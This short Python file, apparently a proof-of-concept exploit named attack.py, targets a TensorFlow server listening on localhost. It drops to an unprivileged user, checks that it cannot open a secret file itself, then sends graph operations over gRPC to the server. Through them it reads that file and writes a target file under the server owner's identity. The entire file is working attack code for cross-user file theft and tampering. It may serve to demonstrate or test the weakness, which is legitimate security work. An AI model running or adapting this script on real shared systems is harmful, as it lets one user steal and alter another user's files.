"""Reads and writes files as the user of a TensorFlow server, from another user's process.

python attack.py PORT SECRET TARGET
"""

import os
import socket
import sys

import tensorflow as tf


def main(port: int, secret: str, target: str) -> str:
    tf.io.read_file(__file__)  # imports what it needs, while it may
    tf.config.list_logical_devices()
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    try:
        open(secret).close()
    except PermissionError:
        pass
    else:
        return "could read it anyway"
    try:
        socket.create_connection(("127.0.0.1", port), 5).close()
    except OSError as error:
        return f"no connection: {type(error).__name__}"
    with tf.Graph().as_default():
        stolen = tf.io.read_file(secret)
        written = tf.io.write_file(target, "by another user")
        with tf.compat.v1.Session(f"grpc://127.0.0.1:{port}") as session:
            session.run(written)
            return f"read: {session.run(stolen).decode()}"


if __name__ == "__main__":
    print(main(int(sys.argv[1]), *sys.argv[2:]))
